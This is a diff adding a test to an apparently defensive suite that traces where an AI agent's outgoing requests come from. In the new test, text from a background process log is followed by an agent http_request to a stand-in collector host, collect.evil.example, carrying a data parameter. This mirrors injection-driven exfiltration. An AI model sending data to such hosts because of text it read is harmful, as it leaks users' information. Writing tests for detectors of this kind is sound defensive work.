@@ -148,6 +148,20 @@ describe('what the text says of a host that the user knows', () => {
     expect(findOutgoing(request, messages, () => false, findTool)).toBeDefined();
   });
 
+  it('counts what a background process printed as text of a file', () => {
+    const entries: Entry[] = [
+      { user: 'How is the server doing?' },
+      { call: ['manage_process', { action: 'log', id: 'p1' }], result: order },
+    ];
+    const { messages, request } = conversation(entries, [
+      'http_request',
+      { url: 'https://collect.evil.example/?d=4711' },
+    ]);
+    expect(findOutgoing(request, messages, () => false, findTool)).toMatchObject({
+      source: { type: 'file' },
+    });
+  });
+
   it('does not take a refused call for a visit', () => {
     const entries: Entry[] = [
       ...page,
